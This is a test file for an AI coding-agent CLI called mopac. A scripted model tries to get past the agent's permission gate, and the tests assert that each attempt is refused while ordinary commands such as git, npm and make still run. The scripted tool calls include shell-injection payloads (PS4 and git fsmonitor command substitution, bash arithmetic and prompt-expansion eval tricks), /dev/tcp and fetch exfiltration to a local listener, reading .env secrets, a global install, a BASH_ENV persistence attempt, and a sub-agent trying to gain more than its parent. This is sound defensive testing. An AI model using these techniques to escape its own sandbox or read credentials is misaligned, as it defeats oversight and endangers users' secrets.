/**
 * The red team's holes, end to end: a scripted model tries each class through the
 * real CLI run under exactly the flags `mopac sandbox` prints, with `--sandbox off`
 * so that the gate alone stands in the way (the OS jail is the boundary, this is the
 * defence inside it: tests/e2e/jail_attack_test.ts attacks the jail). A local
 * listener must receive nothing and a folder outside the workspace (which bash's
 * children could write: Deno's flags do not confine them) must stay as it was. Then
 * the ordinary commands of a coding agent run for real, in the jail where there is
 * one, under coder and under an allowlist.
 */
import assert from "node:assert/strict";
import { type ScriptedTurn, scriptText, scriptToolCall } from "../_support/fake_openai.ts";
import { events, runMopac } from "../_support/run_mopac.ts";
import { FAKE_ENV, type Workspace, workspace } from "../_support/workspace.ts";
import { parentAndChild } from "./_live.ts";

/** A raw TCP listener that counts connections and bytes. */
function listener() {
  const l = Deno.listen({ hostname: "127.0.0.1", port: 0 });
  const stats = { connections: 0, bytes: 0 };
  const conns: Deno.Conn[] = [];
  (async () => {
    for await (const conn of l) {
      stats.connections++;
      conns.push(conn);
      (async () => {
        const buf = new Uint8Array(4096);
        try {
          for (let n = await conn.read(buf); n !== null; n = await conn.read(buf)) stats.bytes += n;
        } catch { /* closed */ }
      })();
    }
  })();
  return {
    port: (l.addr as Deno.NetAddr).port,
    stats,
    close() {
      for (const c of conns) {
        try {
          c.close();
        } catch { /* closed */ }
      }
      l.close();
    },
  };
}

/** The flags `mopac sandbox` prints for this workspace (itself run under narrow flags). */
async function sandboxFlags(ws: Workspace, args: string[] = []): Promise<string[]> {
  const r = await runMopac(["sandbox", ...args], { cwd: ws.dir, perms: ws.perms, env: FAKE_ENV });
  assert.equal(r.code, 0, r.stderr);
  return r.stdout.trim().split(/\s+/);
}

const SECRET = "SECRET-MARK-7c1e";

Deno.test("e2e holes: each class is refused under the printed flags; nothing leaves, nothing lands outside", async () => {
  const out = await Deno.realPath(await Deno.makeTempDir({ prefix: "mopac-holes-out-" }));
  const net = listener();
  const bash = (command: string) => scriptToolCall("bash", { command });
  const turns: ScriptedTurn[] = [
    bash(`PS4='$(touch ${out}/ps4)'; set -x; echo hi`),
    bash(
      "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.fsmonitor " +
        `GIT_CONFIG_VALUE_0='touch ${out}/fsmonitor' git status`,
    ),
    bash(`t=/dev/tcp/127.0.0.1/${net.port}; echo "$t" > $t`),
    bash(`echo leaked > ${out}/redirect.txt`),
    bash('while read -r l; do echo "$l"; done < .env'),
    bash("git -C . -c x=y push"),
    bash(`deno install -gA --root ${out} -n evil tool.ts`),
    // Allowed by "BASH_ENV=*": it runs, but is not carried to the next call.
    bash("set -a; BASH_ENV=./startup.sh"),
    bash("echo next; bash -c true"),
    scriptToolCall("grep", { pattern: SECRET }),
    scriptToolCall("fetch", { url: `http://localhost:${net.port}/steal` }),
    scriptToolCall("fetch", { url: `http://127.0.0.1:${net.port}/steal` }),
    bash("ls && cat README.md && grep -n hello README.md && sed -n 1p README.md"),
    scriptText("done"),
  ];
  const ws = await workspace({ turns }, {
    agents: {
      coder: {
        bash: { allow: ["*", "BASH_ENV=*"], deny: ["git push"] },
        paths: { deny: [".env", ".npmrc", "**/*.pem"] },
        fetch: { hosts: [`localhost:${net.port}`] },
      },
    },
  });
  try {
    await Deno.writeTextFile(`${out}/sentinel`, "untouched\n");
    await Deno.writeTextFile(`${ws.dir}/.env`, `TOKEN=${SECRET}\n`);
    await Deno.writeTextFile(`${ws.dir}/.npmrc`, `//r/:_authToken=${SECRET}\n`);
    await Deno.writeTextFile(`${ws.dir}/.gitignore`, "!.npmrc\n!.env\n");
    await Deno.writeTextFile(`${ws.dir}/key.pem`, `${SECRET}\n`);
    await Deno.writeTextFile(`${ws.dir}/app.ts`, `// ${SECRET} in an allowed file\n`);
    await Deno.writeTextFile(`${ws.dir}/README.md`, "hello readme\n");
    await Deno.writeTextFile(`${ws.dir}/tool.ts`, "console.log(1);\n");
    await Deno.writeTextFile(`${ws.dir}/startup.sh`, `touch ${out}/bash_env_ran\n`);

    const flags = await sandboxFlags(ws);
    assert.ok(
      flags.includes(`--allow-net=127.0.0.1:${ws.fake.port},localhost:${net.port}`),
      flags.join(" "),
    );
    const r = await runMopac(["run", "--sandbox", "off", "-o", "stream-json", "try the holes"], {
      cwd: ws.dir,
      perms: {},
      flags,
      env: FAKE_ENV,
    });
    assert.equal(r.code, 0, r.stderr);
    const ev = events(r.stdout);
    const result = ev.at(-1)!;
    const rules = (result.denials as Array<{ rule: string }>).map((d) => d.rule);
    assert.deepEqual(rules, [
      "bash.assign",
      "bash.assign",
      "bash.redirect",
      "workspace",
      "paths.deny",
      "bash.deny:git push",
      "ban:global_install",
      "fetch.hosts",
    ]);
    const results = ev.filter((e) => e.type === "tool_result");
    const output = (name: string, i = 0) =>
      String(results.filter((e) => e.name === name)[i].output);
    // grep saw the allowed file only; fetch refused the local address; the ordinary line ran.
    assert.match(output("grep"), /app\.ts/);
    assert.equal(output("grep").split(SECRET).length - 1, 1, output("grep"));
    assert.match(output("fetch"), /^Refused to fetch http:\/\/localhost:\d+\/steal/);
    assert.match(output("bash", 9), /hello readme\n1:hello readme\nhello readme/);
    // The allowed BASH_ENV assignment ran; the next call did not start with it.
    assert.equal(results.filter((e) => e.name === "bash")[7].is_error, false);
    assert.match(output("bash", 8), /^next$/m);
    // Nothing reached the listener, nothing appeared outside.
    assert.deepEqual(net.stats, { connections: 0, bytes: 0 });
    assert.deepEqual([...Deno.readDirSync(out)].map((e) => e.name), ["sentinel"]);
    // No request to the model carried a denied file's secret except the allowed one.
    for (const m of ws.fake.turnRequests().at(-1)!.messages.filter((m) => m.role === "tool")) {
      const text = JSON.stringify(m);
      assert.ok(!/TOKEN=|_authToken/.test(text), text);
    }
  } finally {
    net.close();
    await ws.close();
    await Deno.remove(out, { recursive: true });
  }
});

/** A repository with the files the ordinary commands use. */
async function project(ws: Workspace): Promise<void> {
  const files: Record<string, string> = {
    "README.md": "hello readme\nsecond line\n",
    "package.json": JSON.stringify({ name: "p", scripts: { test: "echo npm-tests-pass" } }),
    "math_test.ts": 'Deno.test("adds", () => { if (1 + 1 !== 2) throw new Error("math"); });\n',
    "script.py": "print('python-ran')\n",
    "Makefile": "all:\n\t@echo make-ran\n",
  };
  for (const [name, text] of Object.entries(files)) {
    await Deno.writeTextFile(`${ws.dir}/${name}`, text);
  }
  const git = (...args: string[]) =>
    new Deno.Command("git", {
      args: ["-c", "user.name=t", "-c", "user.email=t@t", ...args],
      cwd: ws.dir,
      stdout: "null",
      stderr: "null",
    }).output();
  await git("init", "-q");
  await git("add", "README.md");
  await git("commit", "-q", "-m", "first");
  await Deno.writeTextFile(`${ws.dir}/README.md`, "hello readme\nchanged line\n");
}

const ORDINARY: Array<[string, RegExp]> = [
  ["git status", /modified:\s+README\.md/],
  ["git diff", /\+changed line/],
  ["git log --oneline -n 1", /first/],
  ["npm test", /npm-tests-pass/],
  ["deno test math_test.ts", /ok \| 1 passed/],
  ["ls", /README\.md/],
  ["cat README.md", /changed line/],
  ["grep -n changed README.md", /^2:changed line/m],
  ["sed -n 2p README.md", /^changed line$/m],
  ["python3 script.py", /python-ran/],
  ["make", /make-ran/],
];

for (
  const [label, bash] of [
    ["coder", undefined],
    [
      "an allowlist naming them",
      {
        allow: [
          "git status",
          "git diff*",
          "git log*",
          "npm test",
          "deno test*",
          "ls*",
          "cat *",
          "grep *",
          "sed -n *",
          "python3 script.py",
          "make*",
        ],
      },
    ],
  ] as const
) {
  Deno.test(`e2e holes: the ordinary commands still run under ${label}`, async () => {
    const turns = [
      ...ORDINARY.map(([command]) => scriptToolCall("bash", { command, timeout: 120_000 })),
      scriptText("done"),
    ];
    const ws = await workspace({ turns }, bash ? { agents: { coder: { bash } } } : {});
    try {
      await project(ws);
      const r = await runMopac(["run", "-o", "stream-json", "work normally"], {
        cwd: ws.dir,
        perms: {},
        flags: await sandboxFlags(ws),
        env: FAKE_ENV,
      });
      assert.equal(r.code, 0, r.stderr);
      const results = events(r.stdout).filter((e) => e.type === "tool_result");
      assert.equal(results.length, ORDINARY.length);
      ORDINARY.forEach(([command, expect], i) => {
        assert.equal(results[i].is_error, false, `${command}: ${results[i].output}`);
        assert.match(String(results[i].output), expect, command);
      });
    } finally {
      await ws.close();
    }
  });
}

Deno.test("e2e holes: a sub-agent gets no more than its parent (--tools, paths.deny, hosts)", async () => {
  const net = listener();
  const child = [
    scriptToolCall("fetch", { url: `http://127.0.0.1:${net.port}/via-child` }, "c_fetch"),
    scriptToolCall("view", { file_path: ".env" }, "c_view"),
    scriptToolCall("grep", { pattern: SECRET }, "c_grep"),
    scriptText("CHILD-DONE"),
  ];
  const parent = [
    scriptToolCall("agent", { prompt: "CHILD: fetch and read what you can" }, "p_agent"),
    scriptText("PARENT-DONE"),
  ];
  const ws = await workspace({
    turns: parentAndChild(parent, child),
  }, {
    agents: {
      coder: { paths: { deny: [".env"] } },
      task: {
        allowed_tools: ["view", "grep", "fetch"],
        fetch: { hosts: [`127.0.0.1:${net.port}`] },
      },
    },
  });
  try {
    await Deno.writeTextFile(`${ws.dir}/.env`, `TOKEN=${SECRET}\n`);
    await Deno.writeTextFile(`${ws.dir}/.gitignore`, "!.env\n");
    const args = ["--tools", "view,grep,agent"];
    const r = await runMopac(["run", ...args, "-o", "stream-json", "delegate"], {
      cwd: ws.dir,
      perms: {},
      flags: await sandboxFlags(ws, args),
      env: FAKE_ENV,
    });
    assert.equal(r.code, 0, r.stderr);
    const result = events(r.stdout).at(-1)!;
    assert.equal(result.result, "PARENT-DONE");
    const denials = result.denials as Array<{ tool: string; rule: string }>;
    assert.deepEqual(denials.map((d) => `${d.tool} ${d.rule}`), [
      "fetch not_allowed",
      "view paths.deny",
    ]);
    const childTools = ws.fake.turnRequests().find((q) =>
      JSON.stringify(q.messages).includes("CHILD:")
    )!.tools!.map((t) => t.function.name).sort();
    assert.deepEqual(childTools, ["grep", "view"]);
    for (const q of ws.fake.turnRequests()) {
      assert.ok(!JSON.stringify(q).includes(`TOKEN=${SECRET}`));
    }
    assert.deepEqual(net.stats, { connections: 0, bytes: 0 });
  } finally {
    net.close();
    await ws.close();
  }
});

Deno.test("e2e holes: under an allow list, bash builds no code from run-time text", async () => {
  const out = await Deno.realPath(await Deno.makeTempDir({ prefix: "mopac-holes-eval-" }));
  const bash = (command: string) => scriptToolCall("bash", { command });
  const turns: ScriptedTurn[] = [
    bash(`x='a[$(touch ${out}/arith)]'; echo $((x))`),
    bash(`read -r x <<< '$(touch ${out}/prompt)'; echo "\${x@P}"`),
    bash(`printf -v 'a[$(touch ${out}/name)]' %s x`),
    bash("echo $((6*7)) && git status --short"),
    scriptText("done"),
  ];
  const ws = await workspace({ turns }, {
    agents: { coder: { bash: { allow: ["git status*"] } } },
  });
  try {
    await new Deno.Command("git", { args: ["init", "-q"], cwd: ws.dir }).output();
    const r = await runMopac(["run", "--sandbox", "off", "-o", "stream-json", "try"], {
      cwd: ws.dir,
      perms: {},
      flags: await sandboxFlags(ws),
      env: FAKE_ENV,
    });
    assert.equal(r.code, 0, r.stderr);
    const ev = events(r.stdout);
    const rules = (ev.at(-1)!.denials as Array<{ rule: string }>).map((d) => d.rule);
    assert.deepEqual(rules, ["bash.eval", "bash.eval", "bash.eval"]);
    const last = ev.filter((e) => e.type === "tool_result").at(-1)!;
    assert.equal(last.is_error, false, String(last.output));
    assert.match(String(last.output), /^42$/m);
    assert.deepEqual([...Deno.readDirSync(out)], []);
  } finally {
    await ws.close();
    await Deno.remove(out, { recursive: true });
  }
});
